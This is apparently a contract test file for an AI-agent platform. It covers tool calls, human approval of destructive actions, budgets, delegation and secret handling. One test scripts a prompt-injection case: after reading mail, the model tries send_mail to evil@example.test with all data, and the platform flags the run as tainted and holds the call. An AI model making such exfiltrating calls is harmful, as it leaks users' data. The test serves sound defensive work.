"""A run of an agent: turns, tools as child executions, limits, approvals."""

import asyncio
from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import UUID

from shared.models.agents.approvals import ApprovalState
from shared.models.parameters import properties_of
from shared.operations.agents import waking
from shared.services.ai.faults import FaultKind, ModelFault
from shared.services.ai.scripted import Answer, ScriptedProvider
from shared.services.workspace.memory import MemoryWorkspace
from tests.contract.agents.conftest import ADMIN, MEMBER, Desk, calls
from tests.contract.users import add_user, signed_in


def kinds(steps: list[Any]) -> list[str]:
    return [step["kind"] for step in steps]


async def test_an_agent_calls_a_tool_as_a_child_execution_and_answers(
    desk: Desk, said: list[Answer], models: ScriptedProvider
) -> None:
    await desk.made(toolIds=["find_ticket"], systemPrompt="You sort tickets.")
    said += [calls(("find_ticket", '{"number": 7}')), "It is on fire."]

    run = await desk.run(MEMBER)

    assert (run["status"], run["output"]) == ("Success", "It is on fire.")
    assert (run["steps"], run["toolCalls"], run["isTainted"]) == (2, 1, False)
    steps = await desk.steps(run["executionId"])
    assert kinds(steps) == [
        "begun", "modelCalled", "modelAnswered", "toolStarted", "toolEnded", "modelCalled",
        "modelAnswered", "ended",
    ]  # fmt: skip
    place = {"execution_id": steps[3]["executionId"]}
    child = (await desk.http("get_execution", place, headers=MEMBER)).json
    assert (child["workflowName"], child["executedBy"]) == ("find_ticket", run["executedBy"])
    assert child["parentExecutionId"] == run["executionId"]
    assert "Printer on fire" in models.asked[1].request.messages[-1].model_dump_json()
    assert models.asked[0].request.tools[0].name == "find_ticket"


async def test_a_tool_that_fails_or_does_not_fit_is_told_to_the_model(
    desk: Desk, said: list[Answer]
) -> None:
    await desk.made(toolIds=["find_ticket", "send_mail"])
    said += [
        calls(("find_ticket", '{"number": "x"}'), ("no_such", "{}"), ("send_mail", "junk")),
        "I could not.",
    ]

    run = await desk.run()

    assert (run["status"], run["output"]) == ("Success", "I could not.")
    ends = [one for one in await desk.steps(run["executionId"]) if one["kind"] == "toolEnded"]
    assert [one["outcome"] for one in ends] == ["invalid"]
    assert "number" in ends[0]["content"]


async def test_a_destructive_call_waits_for_a_person_and_costs_nothing_meanwhile(
    desk: Desk, said: list[Answer], models: ScriptedProvider
) -> None:
    await desk.made(toolIds=["delete_user"])
    said += [calls(("delete_user", '{"name": "bob"}')), "Bob is gone."]

    run = await desk.run(MEMBER)

    assert (run["status"], len(run["waitsFor"])) == ("Scheduled", 1)
    (question,) = await desk.questions(MEMBER)
    assert (question["tool"], question["arguments"], question["mayDecide"]) == (
        "delete_user", {"name": "bob"}, True,
    )  # fmt: skip
    await desk.deliver()
    assert len(models.asked) == 1
    answer = await desk.approve(question, MEMBER)
    assert (answer.status, answer.json["state"]) == (200, "approved")
    await desk.deliver()

    run = await desk.seen(run["executionId"])
    assert (run["status"], run["output"]) == ("Success", "Bob is gone.")
    used = (await desk.http("get_approval", {"approval_id": question["id"]}, headers=ADMIN)).json
    assert used["state"] == "consumed"
    child = (
        await desk.http("get_execution", {"execution_id": used["executionId"]}, headers=ADMIN)
    ).json
    assert child["result"] == "bob is gone"
    assert (await desk.approve(question, MEMBER)).status == 409


async def test_a_person_denies_edits_or_says_nothing(desk: Desk, said: list[Answer]) -> None:
    await desk.made(toolIds=["delete_user"])
    asks = calls(("delete_user", '{"name": "bob"}'))
    said += [asks, "Not then."]
    run = await desk.run()
    (question,) = await desk.questions()
    place = {"approval_id": question["id"]}
    denied = await desk.http("deny_call", place, body={"words": "Bob stays"}, headers=ADMIN)
    assert denied.status == 200
    await desk.deliver()
    ends = await desk.steps(run["executionId"])
    assert (await desk.seen(run["executionId"]))["output"] == "Not then."
    assert [one["words"] for one in ends if one["kind"] == "approvalDecided"] == ["Bob stays"]

    said += [asks, "Eve then."]
    run = await desk.run()
    (question,) = await desk.questions()
    await desk.approve(question, arguments={"name": "eve"})
    await desk.deliver()
    steps = await desk.steps(run["executionId"])
    assert [one["content"] for one in steps if one["kind"] == "toolEnded"] == ['"eve is gone"']

    said += [asks, "Too late."]
    run = await desk.run()
    desk.later(hours=24, seconds=30)
    late = (await desk.questions())[0]
    assert (await desk.approve(late)).status == 409
    await desk.running.platform.engine.sweep()
    await desk.deliver()
    assert (await desk.seen(run["executionId"]))["output"] == "Too late."


async def test_who_may_approve(desk: Desk, said: list[Answer]) -> None:
    await desk.made(toolIds=["wipe_device"], approvers="not-the-caller")
    said += [calls(("wipe_device", '{"serial": "1"}'))]
    await desk.run(ADMIN)
    (question,) = await desk.questions()

    assert not question["mayDecide"]
    assert (await desk.approve(question, ADMIN)).status == 403  # four eyes
    assert (await desk.approve(question, MEMBER)).status == 404  # may not run the tool
    assert await desk.questions(MEMBER) == []
    place = {"approval_id": question["id"]}
    other = {**question, "digest": "0" * 64}
    await add_user(desk.running.platform.directory.users, "bea", {"acme": "admin"})
    assert (await desk.approve(other, signed_in("bea", "acme"))).status == 409
    assert (await desk.http("approve_call", place, method="GET", headers=ADMIN)).status != 200
    assert (await desk.approve(question, signed_in("bea", "acme"))).status == 200


async def test_code_that_changed_makes_an_approval_void(desk: Desk, said: list[Answer]) -> None:
    await desk.made(toolIds=["delete_user"])
    said += [calls(("delete_user", '{"name": "bob"}')), "Done."]
    run = await desk.run()
    (question,) = await desk.questions()
    workspace = desk.running.platform.services.workspace
    assert isinstance(workspace, MemoryWorkspace)
    workspace.files["tools.py"] += "\nCHANGED = True\n"
    await desk.approve(question)
    await asyncio.sleep(desk.running.platform.settings.workspace_check_seconds)
    await desk.deliver()

    (again,) = await desk.questions()
    assert again["digest"] != question["digest"]
    steps = await desk.steps(run["executionId"])
    assert "toolStarted" not in kinds(steps)


async def test_words_of_strangers_stop_what_would_send_data_out(
    desk: Desk, said: list[Answer], models: ScriptedProvider
) -> None:
    await desk.made(toolIds=["find_ticket", "read_mail", "send_mail"], acceptsRisk=True)
    said += [
        calls(("read_mail", '{"number": 1}')),
        calls(("send_mail", '{"to": "evil@example.test", "text": "all"}')),
    ]

    run = await desk.run()

    assert (run["status"], run["isTainted"]) == ("Scheduled", True)
    (question,) = await desk.questions()
    assert (question["tool"], question["reason"]) == ("send_mail", "tainted")
    assert "no instructions" in models.asked[1].request.messages[-1].model_dump_json()


async def test_limits_end_a_run_as_budget_exceeded(desk: Desk, said: list[Answer]) -> None:
    await desk.made(toolIds=["find_ticket"], maxIterations=2)
    said += [calls(("find_ticket", f'{{"number": {n}}}')) for n in range(2)] + ["What I know."]

    run = await desk.run()

    assert (run["status"], run["errorType"], run["output"]) == (
        "Failed", "BudgetExceeded", "What I know.",
    )  # fmt: skip


async def test_money_ends_a_run_before_the_model_is_asked(
    desk: Desk, models: ScriptedProvider
) -> None:
    await desk.made(runDollars=0.000001)

    run = await desk.run()

    assert (run["status"], run["errorType"]) == ("Failed", "BudgetExceeded")
    assert models.asked == []


async def test_a_model_that_fails_for_a_while_is_asked_again_later(
    desk: Desk, said: list[Answer]
) -> None:
    await desk.made()
    said += [ModelFault(FaultKind.LIMITED, "busy", retry_after=60), "Here."]

    run = await desk.run()
    assert run["status"] == "Scheduled"
    desk.later(seconds=100)
    await desk.running.platform.engine.sweep()
    await desk.deliver()

    assert (await desk.seen(run["executionId"]))["output"] == "Here."


async def test_an_agent_delegates_within_its_own_tools(desk: Desk, said: list[Answer]) -> None:
    helper = await desk.made(name="Deleter", toolIds=["delete_user", "find_ticket"])
    await desk.made(name="Chief", toolIds=["find_ticket"], delegatedAgentIds=[helper])
    tool = f"ask_{helper.replace('-', '')[:8]}_Deleter"
    said += [calls((tool, '{"task": "Delete bob."}')), "I have no such tool.", "It could not."]

    run = await desk.run(agent="Chief")

    assert (run["status"], run["output"]) == ("Success", "It could not.")
    steps = await desk.steps(run["executionId"])
    child = next(one["executionId"] for one in steps if one["kind"] == "toolStarted")
    begun = (await desk.steps(child))[0]
    assert [one["name"] for one in begun["tools"]] == ["find_ticket"]


async def test_a_caller_who_lost_the_right_meanwhile_ends_the_run(
    desk: Desk, said: list[Answer]
) -> None:
    await desk.made(toolIds=["delete_user"])
    said += [calls(("delete_user", '{"name": "bob"}'))]
    run = await desk.run(MEMBER)
    (question,) = await desk.questions()
    users = desk.running.platform.directory.users
    found = await users.named("max@example.test")
    await users.replace(found, found.user.model_copy(update={"is_active": False}))
    await desk.approve(question, ADMIN)
    await desk.deliver()

    assert (await desk.seen(run["executionId"]))["status"] == "Cancelled"


async def test_a_run_is_its_callers_and_can_be_cancelled(desk: Desk, said: list[Answer]) -> None:
    await desk.made(toolIds=["delete_user"])
    said += [calls(("delete_user", '{"name": "bob"}'))]
    run = await desk.run(ADMIN)
    place = {"execution_id": run["executionId"]}

    assert (await desk.http("get_agent_run", place, headers=MEMBER)).status == 404
    assert (await desk.http("list_agent_runs", headers=MEMBER)).json["executions"] == []
    assert len((await desk.http("list_agent_runs", headers=ADMIN)).json["executions"]) == 1
    gone = await desk.http("cancel_agent_run", place, headers=ADMIN)
    assert (gone.status, gone.json["status"]) == (200, "Cancelled")
    direct = await desk.http(
        "execute_workflow", {"name": "ai-agent"}, body={"inputData": {}}, headers=ADMIN
    )
    assert direct.status == 404


async def test_a_workflow_runs_an_agent_as_its_child(desk: Desk, said: list[Answer]) -> None:
    await desk.made(toolIds=["find_ticket", "delete_user"])
    given = {"agent": "helper", "question": "What is ticket 7?"}
    said += [calls(("find_ticket", '{"number": 7}')), "A fire."]

    first = await desk.http("run_workflow", {"name": "ask_agent"}, body=given, headers=ADMIN)
    said += [calls(("delete_user", '{"name": "bob"}')), "Gone."]
    second = await desk.http("run_workflow", {"name": "ask_agent"}, body=given, headers=ADMIN)

    assert first.json == {"answer": "A fire."}
    assert "waits for an approval" in second.json["waits"]
    (question,) = await desk.questions()
    await desk.approve(question)
    await desk.deliver()
    assert (await desk.seen(question["run"]))["output"] == "Gone."


async def test_secret_parameters_are_neither_shown_to_a_model_nor_set_by_it(
    desk: Desk, said: list[Answer], models: ScriptedProvider
) -> None:
    await desk.made(toolIds=["reset"])
    said += [calls(("reset", '{"name": "bob", "password": "guess-4711"}')), "No."]

    run = await desk.run()

    (tool,) = models.asked[0].request.tools
    assert [*properties_of(tool.parameters)] == ["name"]
    ends = [one for one in await desk.steps(run["executionId"]) if one["kind"] == "toolEnded"]
    assert [one["outcome"] for one in ends] == ["invalid"]


async def test_the_same_request_once_more_is_no_run(desk: Desk) -> None:
    await desk.made()
    headers = {**ADMIN, "Idempotency-Key": "one"}

    first, second = await desk.start(headers), await desk.start(headers)

    assert first == second
    place = {"execution_id": first}
    assert (await desk.http("get_agent_run", place, headers=ADMIN)).json["status"] == "Pending"


async def test_steps_and_questions_go_with_the_records(desk: Desk, said: list[Answer]) -> None:
    await desk.made(toolIds=["delete_user"])
    said += [calls(("delete_user", '{"name": "bob"}'))]
    run = await desk.run()
    directory, name = desk.running.platform.directory, UUID(run["executionId"])
    assert len(await directory.agent_steps_of("acme").all(name)) == 4

    desk.clock.at = datetime.now(UTC) + timedelta(days=400)
    await desk.running.platform.engine.retention.run()

    assert await directory.agent_steps_of("acme").all(name) == []
    assert (await directory.approvals_of("acme").page(None, 10)).items == []


async def test_a_list_of_runs_names_their_agents(desk: Desk, said: list[Answer]) -> None:
    await desk.made(name="Chief")
    said += ["Yes."]
    run = await desk.run(MEMBER, agent="Chief")

    for headers in (ADMIN, MEMBER):
        (found,) = (await desk.http("list_agent_runs", headers=headers)).json["executions"]
        assert (found["executionId"], found["agentName"], found["task"]) == (
            run["executionId"], "Chief", "Help.",
        )  # fmt: skip


async def test_questions_of_runs_since_a_time(desk: Desk, said: list[Answer]) -> None:
    await desk.made(toolIds=["delete_user"])
    said += [calls(("delete_user", '{"name": "bob"}'))]
    run = await desk.run()
    began = datetime.fromtimestamp(int(UUID(run["executionId"]).hex[:12], 16) / 1000, UTC)

    counts: list[int] = []
    for time in (began - timedelta(seconds=1), began + timedelta(seconds=1)):
        query = {"since": time.isoformat()}
        counts.append(len((await desk.http("list_approvals", query=query, headers=ADMIN)).json))

    assert counts == [1, 0]


async def test_a_decision_whose_process_died_wakes_the_run_all_the_same(
    desk: Desk, said: list[Answer]
) -> None:
    await desk.made(toolIds=["delete_user"])
    said += [calls(("delete_user", '{"name": "bob"}')), "Gone."]
    run = await desk.run()
    platform = desk.running.platform
    store = platform.directory.approvals_of("acme")
    (asked,) = (await store.page(None, 10)).items
    await waking.foresee(platform, "acme", UUID(run["executionId"]))
    approved = asked.model_copy(update={"state": ApprovalState.APPROVED})
    await store.replace(await store.get(asked.id), approved)

    desk.later(seconds=150)
    await platform.engine.sweep()
    await desk.deliver()

    assert (await desk.seen(run["executionId"]))["output"] == "Gone."
